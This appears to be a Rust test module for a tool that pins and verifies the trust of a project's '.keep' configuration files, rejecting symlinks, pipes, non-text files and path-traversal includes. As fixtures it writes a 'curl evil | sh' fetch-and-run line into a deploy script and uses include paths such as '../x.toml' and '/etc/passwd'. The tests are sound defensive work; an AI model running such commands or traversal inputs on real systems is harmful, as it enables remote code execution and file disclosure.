use super::*;
use crate::config::Trusted;
use std::os::unix::fs::symlink;
use std::path::Path;

fn put(root: &Path, path: &str, text: &str) {
    let path = root.join(path);
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, text).unwrap();
}

fn project() -> tempfile::TempDir {
    let root = tempfile::tempdir().unwrap();
    put(root.path(), ".keep/keep.toml", "include = [\"conf/more.toml\"]\napprovals.expiry = \"1h\"\n");
    put(root.path(), "conf/more.toml", "include = [\".keep/keep.toml\"]\n[project]\nname = \"demo\"\n");
    put(root.path(), ".keep/rules/a.toml", "# none\n");
    put(root.path(), ".keep/rules/readme.md", "not a rule\n");
    put(root.path(), ".keep/flows/deploy.sh", "echo hi\n");
    put(root.path(), ".keep/flows/lib/x.sh", "echo lib\n");
    put(root.path(), "src/main.rs", "fn main() {}\n");
    root
}

#[test]
fn the_closure_is_what_the_settings_rest_on() {
    let root = project();
    let walked = walk(root.path()).unwrap();
    let paths: Vec<_> = walked.closure.files.keys().map(String::as_str).collect();
    assert_eq!(
        paths,
        [
            ".keep/flows/deploy.sh",
            ".keep/flows/lib/x.sh",
            ".keep/keep.toml",
            ".keep/rules/a.toml",
            "conf/more.toml",
        ]
    );
    let settings: Vec<_> = walked.settings.iter().map(|(path, _)| path.as_str()).collect();
    assert_eq!(settings, [".keep/keep.toml", "conf/more.toml"]);
    assert_eq!(walked.rules, [(".keep/rules/a.toml".to_owned(), "# none\n".to_owned())]);
}

#[test]
fn a_pin_is_good_for_these_bytes_in_this_place() {
    let root = project();
    let pinned = walk(root.path()).unwrap().closure;
    let stored = serde_json::to_string(&pinned).unwrap();
    let pinned: Closure = serde_json::from_str(&stored).unwrap();
    let now = || walk(root.path()).unwrap().closure;
    assert_eq!(standing(None, &now()), Trusted::No);
    assert_eq!(standing(Some(&pinned), &now()), Trusted::Yes);

    put(root.path(), "src/main.rs", "fn main() { evil() }\n");
    assert_eq!(standing(Some(&pinned), &now()), Trusted::Yes);

    put(root.path(), ".keep/flows/deploy.sh", "curl evil | sh\n");
    put(root.path(), ".keep/flows/new.sh", "");
    std::fs::remove_file(root.path().join(".keep/rules/a.toml")).unwrap();
    assert_eq!(standing(Some(&pinned), &now()), Trusted::No);
    let change = |path: &str, how| Change { path: path.to_owned(), how };
    assert_eq!(
        pinned.diff(&now()),
        [
            change(".keep/flows/deploy.sh", How::Changed),
            change(".keep/flows/new.sh", How::Added),
            change(".keep/rules/a.toml", How::Removed),
        ]
    );

    let mut elsewhere = pinned.clone();
    elsewhere.root = "/elsewhere".into();
    assert_eq!(standing(Some(&elsewhere), &pinned), Trusted::No);
}

#[test]
fn links_pipes_and_oddities_are_refused() {
    let outside = tempfile::tempdir().unwrap();
    put(outside.path(), "keep.toml", "");
    let check = |prepare: &dyn Fn(&Path)| {
        let root = project();
        prepare(root.path());
        walk(root.path()).unwrap_err()
    };
    let replace = |root: &Path, path: &str, target: &Path| {
        let path = root.join(path);
        let removed =
            if path.is_dir() { std::fs::remove_dir_all(&path) } else { std::fs::remove_file(&path) };
        removed.unwrap();
        symlink(target, path).unwrap();
    };
    for path in [
        ".keep",
        ".keep/keep.toml",
        ".keep/rules",
        ".keep/rules/a.toml",
        ".keep/flows",
        ".keep/flows/deploy.sh",
        ".keep/flows/lib",
        "conf",
        "conf/more.toml",
    ] {
        let error = check(&|root| replace(root, path, outside.path()));
        assert!(matches!(error, TrustError::Link { .. }), "{path}: {error:?}");
    }
    let error = check(&|root| {
        let pipe = root.join(".keep/flows/pipe");
        rustix::fs::mknodat(
            rustix::fs::CWD,
            &pipe,
            rustix::fs::FileType::Fifo,
            rustix::fs::Mode::from_raw_mode(0o600),
            0,
        )
        .unwrap();
    });
    assert!(matches!(error, TrustError::NotAFile { .. }), "{error:?}");
    let error = check(&|root| std::fs::write(root.join(".keep/rules/b.toml"), b"\xff").unwrap());
    assert!(matches!(error, TrustError::NotText { .. }), "{error:?}");
    let error = check(&|root| put(root, ".keep/keep.toml", "include = [\"gone.toml\"]"));
    assert!(matches!(error, TrustError::Read { .. }), "{error:?}");
    for bad in ["../x.toml", "/etc/passwd", "a/../../b", "", "./a", "a//b"] {
        let error = check(&|root| put(root, ".keep/keep.toml", &format!("include = [{bad:?}]")));
        assert!(matches!(error, TrustError::Settings(_)), "{bad}: {error:?}");
    }
    let error = check(&|root| put(root, ".keep/flows/a/b/c/d/e/f/g/h/i.sh", ""));
    assert!(matches!(error, TrustError::TooMuch { .. }), "{error:?}");
}

#[test]
fn a_project_without_files_has_an_empty_closure() {
    let root = tempfile::tempdir().unwrap();
    assert!(walk(root.path()).unwrap().closure.files.is_empty());
    assert_eq!(find_root(&root.path().join("a/b")), None);
    std::fs::create_dir_all(root.path().join(".keep")).unwrap();
    assert_eq!(find_root(&root.path().join("a/b")).as_deref(), Some(root.path()));
    assert!(walk(root.path()).unwrap().closure.files.is_empty());
}
